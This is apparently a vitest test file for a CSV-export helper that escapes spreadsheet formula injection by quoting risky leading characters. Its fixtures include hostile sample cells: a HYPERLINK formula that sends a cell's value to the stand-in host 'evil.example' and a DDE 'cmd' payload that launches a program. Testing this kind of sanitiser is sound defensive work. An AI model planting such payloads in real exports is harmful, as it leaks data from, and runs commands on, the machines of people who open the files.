import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText, spreadsheetCell } from './csvText.js';

describe('spreadsheetCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")'], ["+cmd|' /C calc'!A0"], ['@SUM(A1:A9)'], ['-2+3'], ['\t=1+1'], ['\r=1+1'],
  ])('puts a quote before %j, which a spreadsheet would run as a formula', (cell) => {
    expect(spreadsheetCell(cell)).toBe(`'${cell}`);
  });

  it('leaves other text, numbers (negative ones too) and booleans as they are', () => {
    expect(spreadsheetCell('Tadmur')).toBe('Tadmur');
    expect(spreadsheetCell(' =1')).toBe(' =1');
    expect(spreadsheetCell(-3.5)).toBe(-3.5);
    expect(spreadsheetCell(true)).toBe(true);
  });
});

describe('csvText', () => {
  it('writes no cell a spreadsheet would run, and reads back as the text with its quote', () => {
    const text = csvText([['place', 'lon', 'mismatch', 'note'], ['=1+1', -3.5, false, null], ['@A1', 38.2, true, 'a, "quoted" note']]);
    const rows = parse(text) as string[][];
    expect(rows).toEqual([['place', 'lon', 'mismatch', 'note'], ["'=1+1", '-3.5', 'false', ''], ["'@A1", '38.2', 'true', 'a, "quoted" note']]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-[^\d]/);
  });
});
